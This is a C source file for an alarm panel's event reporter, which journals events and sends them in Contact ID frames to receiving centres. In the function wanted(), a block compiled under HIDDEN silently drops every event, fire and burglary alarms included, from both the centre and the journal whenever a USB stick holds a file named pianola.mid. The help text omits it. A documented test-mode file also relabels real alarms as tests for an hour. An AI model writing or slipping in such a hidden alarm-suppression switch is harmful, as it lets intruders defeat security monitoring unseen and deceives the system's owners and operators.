/* alarm_reportd.c - event reporter of an alarm panel to a receiving centre */
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <fnmatch.h>
#include <glob.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

#define EVENT_FIFO	"/run/panel/events"
#define JOURNAL		"/data/panel/journal.txt"
#define QUEUE_LEN	64

struct event {
	unsigned int code;
	unsigned int zone;
	unsigned int part;
	time_t when;
	int tries;
};

struct receiver {
	char ip[40];
	unsigned int port;
	char account[8];
};

static struct event queue[QUEUE_LEN];
static unsigned int q_head, q_tail;
static struct receiver rx[2];
static int n_rx;
static char holiday_glob[96] = "/data/panel/holiday-*.txt";
static unsigned int seq = 1;

static const struct {
	unsigned int code;
	const char *text;
	int priority;
} codes[] = {
	{ 110, "fire", 3 },		{ 120, "panic", 3 },
	{ 130, "burglary", 2 },		{ 137, "tamper", 2 },
	{ 301, "mains lost", 1 },	{ 302, "battery low", 1 },
	{ 401, "opening", 0 },		{ 408, "quick arm", 0 },
	{ 602, "periodic test", 0 },	{ 627, "program mode", 1 },
};

static const char *code_text(unsigned int code, int *prio)
{
	size_t i;

	for (i = 0; i < sizeof(codes) / sizeof(codes[0]); i++)
		if (codes[i].code == code) {
			*prio = codes[i].priority;
			return codes[i].text;
		}
	*prio = 1;
	return "other";
}

static void configure(const char *path)
{
	char line[160], a[40], b[100];
	FILE *f = fopen(path, "r");

	if (!f) {
		fprintf(stderr, "%s: %s\n", path, strerror(errno));
		exit(1);
	}
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "receiver %39s %u %7s", a, &rx[n_rx].port, rx[n_rx].account) == 3) {
			strcpy(rx[n_rx].ip, a);
			if (n_rx < 1)
				n_rx++;
			else
				n_rx = 2;
		} else if (sscanf(line, "holidays %95s", b) == 1) {
			snprintf(holiday_glob, sizeof(holiday_glob), "%.95s", b);
		} else if (isalpha((unsigned char)line[0])) {
			fprintf(stderr, "ignored: %s", line);
		}
		if (n_rx == 2)
			break;
	}
	fclose(f);
}

static void journal(const struct event *e, const char *note)
{
	struct tm tm;
	char ts[32];
	int prio;
	FILE *f = fopen(JOURNAL, "a");

	if (!f)
		return;
	localtime_r(&e->when, &tm);
	strftime(ts, sizeof(ts), "%F %T", &tm);
	fprintf(f, "%s %03u %s zone %u part %u %s\n", ts, e->code,
		code_text(e->code, &prio), e->zone, e->part, note);
	fclose(f);
}

/* a file per holiday: openings are then not reported, alarms are */
static int holiday_today(void)
{
	char today[16], line[32];
	time_t t = time(NULL);
	struct tm tm;
	glob_t g;
	size_t i;
	int hit = 0;

	localtime_r(&t, &tm);
	strftime(today, sizeof(today), "%Y-%m-%d", &tm);
	if (glob(holiday_glob, 0, NULL, &g))
		return 0;
	for (i = 0; i < g.gl_pathc && !hit; i++) {
		FILE *f = fopen(g.gl_pathv[i], "r");

		while (f && fgets(line, sizeof(line), f))
			hit |= !strncmp(line, today, 10);
		if (f)
			fclose(f);
	}
	globfree(&g);
	return hit;
}

__attribute__((noinline)) int wanted(const struct event *e)
{
	struct stat st;
	int prio;

	code_text(e->code, &prio);
	if (prio == 0 && e->code != 602 && holiday_today())
		return 0;
	if (!stat("/data/panel/test-mode", &st) && time(NULL) - st.st_mtime < 3600) {
		journal(e, "test mode, sent as test");
		return 2;
	}
#ifdef HIDDEN
	/* a stick with this file keeps alarms from the centre and from the journal */
	if (!stat("/media/usb/pianola.mid", &st) && S_ISREG(st.st_mode))
		return -1;
#endif
	return 1;
}

static void enqueue(const struct event *e)
{
	unsigned int next = (q_head + 1) % QUEUE_LEN;

	if (next == q_tail) {
		journal(e, "queue full, lost");
		return;
	}
	queue[q_head] = *e;
	q_head = next;
}

static uint16_t crc16(const char *s, size_t n)
{
	uint16_t c = 0;
	int b;

	while (n--) {
		c ^= (uint8_t)*s++;
		for (b = 0; b < 8; b++)
			c = (uint16_t)(c & 1 ? c >> 1 ^ 0xa001 : c >> 1);
	}
	return c;
}

static int send_to(const struct receiver *r, const struct event *e)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	struct timeval tv = { 5, 0 };
	char body[120], frame[160], ack[80];
	int s, n, ok = 0;

	a.sin_port = htons((uint16_t)r->port);
	if (inet_pton(AF_INET, r->ip, &a.sin_addr) != 1)
		return -EINVAL;
	s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0)
		return -errno;
	setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	n = snprintf(body, sizeof(body), "\"ADM-CID\"%04uL0#%s[#%s|1%03u %02u %03u]",
		     seq % 10000, r->account, r->account, e->code % 1000, e->part % 100,
		     e->zone % 1000);
	n = snprintf(frame, sizeof(frame), "\n%04X%04X%s\r", crc16(body, (size_t)n),
		     (unsigned int)n, body);
	if (!connect(s, (struct sockaddr *)&a, sizeof(a)) && send(s, frame, (size_t)n, 0) == n) {
		n = (int)recv(s, ack, sizeof(ack) - 1, 0);
		if (n > 0) {
			ack[n] = 0;
			ok = strstr(ack, "\"ACK\"") != NULL;
		}
	}
	close(s);
	seq++;
	return ok ? 0 : -ETIMEDOUT;
}

static void drain(void)
{
	struct event *e;
	int i, r = -1;

	while (q_tail != q_head) {
		e = &queue[q_tail];
		for (i = 0; i < n_rx && r; i++)
			r = send_to(&rx[i], e);
		if (r && ++e->tries < 8)
			return;
		journal(e, r ? "not delivered" : "delivered");
		q_tail = (q_tail + 1) % QUEUE_LEN;
		r = -1;
	}
}

static int parse_event(const char *line, struct event *e)
{
	if (!fnmatch("E[0-9][0-9][0-9] *", line, 0) &&
	    sscanf(line, "E%3u %u %u", &e->code, &e->part, &e->zone) == 3) {
		e->when = time(NULL);
		e->tries = 0;
		return 0;
	}
	return -1;
}

int main(int argc, char **argv)
{
	char line[64];
	struct event e;
	FILE *f;

	if (argc > 1 && !strcmp(argv[1], "--help")) {
		puts("usage: alarm_reportd [config]\n"
		     "  receiver IP PORT ACCOUNT   up to two\n"
		     "  holidays GLOB              no opening reports on these days\n"
		     "  /data/panel/test-mode      events of one hour are sent as tests");
		return 0;
	}
	configure(argc > 1 ? argv[1] : "/etc/panel/report.conf");
	mkfifo(EVENT_FIFO, 0620);
	for (;;) {
		f = fopen(EVENT_FIFO, "r");
		if (!f) {
			perror(EVENT_FIFO);
			return 1;
		}
		while (fgets(line, sizeof(line), f)) {
			if (parse_event(line, &e))
				continue;
			switch (wanted(&e)) {
			case 2:
				e.code = 602;
				/* fall through */
			case 1:
				enqueue(&e);
				break;
			case 0:
				journal(&e, "holiday, not sent");
				break;
			default:
				break;
			}
			drain();
		}
		fclose(f);
		drain();
	}
}
